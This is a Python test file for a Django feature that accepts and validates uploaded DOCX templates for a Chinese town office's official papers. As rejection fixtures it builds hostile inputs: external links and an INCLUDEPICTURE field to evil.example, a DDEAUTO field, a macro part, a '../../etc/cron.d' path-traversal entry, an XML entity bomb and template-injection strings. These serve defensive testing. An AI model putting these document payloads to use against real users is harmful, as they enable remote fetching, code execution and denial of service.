"""公文模板: what a town changes in WPS and gives back draws its papers from then on; what cannot is refused."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from docx.oxml.ns import nsmap
from docx.shared import Pt

from dushi.records.actions import issue_paper
from dushi.records.kinds import paper_kinds
from dushi.records.lines import body, para
from dushi.records.models import Paper, PaperTemplate
from dushi.records.official import Form, standard_template
from dushi.records.paper_templates import drawn
from dushi.records.template_checks import MOST_BYTES
from tests.cast import client_of

# What a file holds is the same on either engine.
pytestmark = pytest.mark.only_on("sqlite")
URL = "/paper-templates/INSPECTION/"


def upload(user, content, url=URL):
    return client_of(user).post(url, {"file": SimpleUploadedFile("我们的模板.docx", content)})


def edited(change, form=Form.DOCUMENT):
    """The standard template with `change(document)` done to it, as an office would."""
    document = Document(io.BytesIO(standard_template(form)))
    change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(changes, form=Form.DOCUMENT):
    """The standard template with parts of the package replaced: name → function of its bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(standard_template(form))) as old, zipfile.ZipFile(out, "w") as new:
        known = {name: old.read(name) for name in old.namelist()}
        for name in {**known, **changes}:
            new.writestr(name, changes[name](known.get(name, b"")) if name in changes else known[name])
    return out.getvalue()


def paragraph(document, word):
    return next(one for one in document.paragraphs if word in one.text)


def issue(cast, lines, title="关于示例检查情况的通报"):
    said = body(title, lines, form="document", organ="示例镇扶贫办文件", issuer="示例镇扶贫办", dated="2026年9月17日")
    kind = Paper.Kind.INSPECTION
    return issue_paper(obj=cast.office, kind=kind, title=title, clause="2.1", body=said, by=cast.clerk)


def texts(paper):
    return [one.text for one in Document(io.BytesIO(drawn(paper.body, paper.number_text))).paragraphs]


def test_a_template_changed_in_the_office_draws_the_next_paper_and_leaves_the_last(cast, at):
    before = issue(cast, [para("查了三个村。")])

    def change(document):
        paragraph(document, "【标题】").insert_paragraph_before("镇里自己加的一行")
        place = paragraph(document, "【正文】")
        place.paragraph_format.line_spacing = Pt(33)
        place.runs[0].font.size = Pt(15)

    assert upload(cast.clerk, edited(change)).status_code == 302
    after = issue(cast, [para("又查了两个村。")])
    assert "镇里自己加的一行" not in texts(before) and "镇里自己加的一行" in texts(after)
    said = next(
        one
        for one in Document(io.BytesIO(drawn(after.body, after.number_text))).paragraphs
        if one.text == "又查了两个村。"
    )
    assert (said.paragraph_format.line_spacing, said.runs[0].font.size) == (Pt(33), Pt(15))
    client = client_of(cast.admin)
    assert "我们的模板.docx" in client.get(URL).content.decode()
    assert client.get(f"{URL}1.docx").content == bytes(PaperTemplate.objects.get().content)
    assert client.post(f"{URL}reset/").status_code == 302
    assert client.post(f"{URL}reset/").status_code == 302  # once more does nothing
    third = issue(cast, [para("三查。")])
    assert "镇里自己加的一行" not in texts(third) and "镇里自己加的一行" in texts(after)
    assert list(PaperTemplate.objects.values_list("version", "is_standard")) == [(2, True), (1, False)]


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        ("标题", lambda one: one.clear(), "缺少【标题】"),
        ("正文", lambda one: one.clear(), "缺少【正文】"),
        ("成文日期", lambda one: one.clear(), "缺少【成文日期】"),
        ("正文", lambda one: one.insert_paragraph_before("【正文】"), "【正文】只能有一处"),
        ("正文", lambda one: one.add_run("如下"), "要单独成段"),
        ("标题", lambda one: one.add_run("【正 文】"), "不认识【正 文】"),
    ],
)
def test_a_template_that_would_lose_something_is_refused_with_the_word_it_lacks(cast, at, name, change, said):
    answer = upload(cast.clerk, edited(lambda document: change(paragraph(document, f"【{name}】"))))
    assert answer.status_code == 422 and said in answer.content.decode()
    assert not PaperTemplate.objects.exists()


W = "word/document.xml"
EXTERNAL = (
    b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)
FIELD_CODE = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
    b'<w:r><w:instrText>PICTURE "http://evil.example"</w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>'
)


def external(kind):
    return {"word/_rels/document.xml.rels": lambda part: part.replace(b"</Relationships>", EXTERNAL % kind)}


def in_body(xml):
    return {W: lambda part: part.replace(b"</w:body>", xml if b"</w:body>" in xml else xml + b"</w:body>")}


def broken_stream():
    """One flipped byte within a packed part: the archive opens, the part does not."""
    content = bytearray(standard_template(Form.DOCUMENT))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as package:
        start = package.getinfo("word/document.xml").header_offset
    content[start + 60 : start + 90] = b"\xff" * 30
    return bytes(content)


def in_a_link(part):
    """The address wrapped in a link within the document, as a word processor makes of a cross-reference."""
    run = re.compile("(<w:r>(?:(?!</w:r>).)*【主送机关】.*?</w:r>)".encode(), re.DOTALL)
    return run.sub(rb'<w:hyperlink w:anchor="x">\1</w:hyperlink>', part)


@pytest.mark.parametrize(
    "content",
    [
        broken_stream(),
        repacked({W: in_a_link}),
        repacked({W: lambda part: re.sub(rb"<w:sectPr.*?</w:sectPr>", b"", part, flags=re.DOTALL)}),
        repacked({"word/styles.xml": lambda part: part.replace(b'w:val="Table Grid"', b'w:val="Gone"')}),
        repacked({"word/Document.xml": lambda _: b"<x/>"}),
    ],
    ids=["broken", "link", "no page", "no style", "two texts"],
)
def test_a_template_by_which_some_paper_could_not_be_issued_is_refused_when_it_is_given(cast, at, content):
    answer = upload(cast.clerk, content)
    assert answer.status_code == 422
    assert not PaperTemplate.objects.exists()


BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"word/vbaProject.bin": lambda _: b"macro"}, "宏"),
        ({"word/embeddings/one.xlsx": lambda _: b"PK"}, "嵌入的文件"),
        ({"../../etc/cron.d/x": lambda _: b"x"}, "嵌入的文件"),
        (external(b"hyperlink"), "指向外部的链接"),
        (external(b"attachedTemplate"), "指向外部的链接"),
        (in_body(FIELD_CODE), "INCLUDEPICTURE"),
        (in_body(b"<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\x'/></w:p>"), "DDEAUTO"),
        (in_body(b"<w:p><w:ins w:id='1' w:author='x'><w:r><w:t>x</w:t></w:r></w:ins></w:p>"), "没有接受的修订"),
        (in_body(b"<w:altChunk/>"), "嵌入的文件"),
        (in_body(b"<x:altChunk xmlns:x='%s'/>" % nsmap["w"].encode()), "嵌入的文件"),
        (in_body(b"<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='http://evil.example/x'/>"), "从别处取来"),
        ({"word/comments.xml": lambda _: BOMB}, "打不开"),
        ({W: lambda part: part[:500]}, "打不开"),
        ({"word/big.xml": lambda _: b"<x>" + b" " * 11_000_000 + b"</x>"}, "展开后太大"),
        ({f"word/part{n}.xml": lambda _: b"<x/>" for n in range(130)}, "内容太多"),
    ],
)
def test_a_file_that_runs_fetches_or_swells_is_refused(cast, at, changes, said):
    out = repacked(changes)
    with zipfile.ZipFile(io.BytesIO(out)) as package:
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as small:
            for name in package.namelist():
                small.writestr(name, package.read(name))
    answer = upload(cast.clerk, packed.getvalue())
    assert answer.status_code == 422 and said in answer.content.decode()
    assert not PaperTemplate.objects.exists()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"\xd0\xcf\x11\xe0" + b"x" * 600, "旧式 .doc"),
        (b"PK\x03\x04 not a package", "请上传 .docx"),
        (b"x" * (MOST_BYTES + 1), "最大 1 MB"),
        (b"", "空的"),
    ],
)
def test_what_is_no_document_is_refused_plainly(cast, at, content, said):
    answer = upload(cast.clerk, content)
    assert answer.status_code == 422 and said in answer.content.decode()


def test_a_word_that_wps_split_into_pieces_is_found_and_replaced(cast, at):
    def split(document):
        place = paragraph(document, "【标题】")
        place.clear()
        for piece in ("【标", "题", "】"):
            place.add_run(piece)

    assert upload(cast.clerk, edited(split)).status_code == 302
    assert "关于示例检查情况的通报" in "".join(texts(issue(cast, [para("一")]))).replace("\n", "")


def test_what_people_type_is_never_read_as_a_template(cast, at):
    said = "【正文】【标题】{{ 7*7 }} {% load x %} ${x} «姓名» <w:p/> \x00\x08"
    paper = issue(cast, [para(said)], title="关于【正文】和{{ body }}的通报")
    whole = "\n".join(texts(paper))
    assert "【正文】【标题】{{ 7*7 }} {% load x %} ${x} «姓名» <w:p/>" in whole
    assert "关于【正文】和{{ body }}的通报" in whole.replace("\n", "")
    assert whole.count("7*7") == 1 and "\x00" not in whole


def test_every_kind_can_be_downloaded_and_given_back_as_it_is(cast, at):
    client = client_of(cast.clerk)
    for kind in paper_kinds():
        url = f"/paper-templates/{kind.key}/"
        assert upload(cast.clerk, client.get(f"{url}0.docx").content, url).status_code == 302, kind.label
        assert Document(io.BytesIO(client.get(f"{url}sample.docx").content)).paragraphs
    assert client.get("/paper-templates/NONSENSE/").status_code == 404
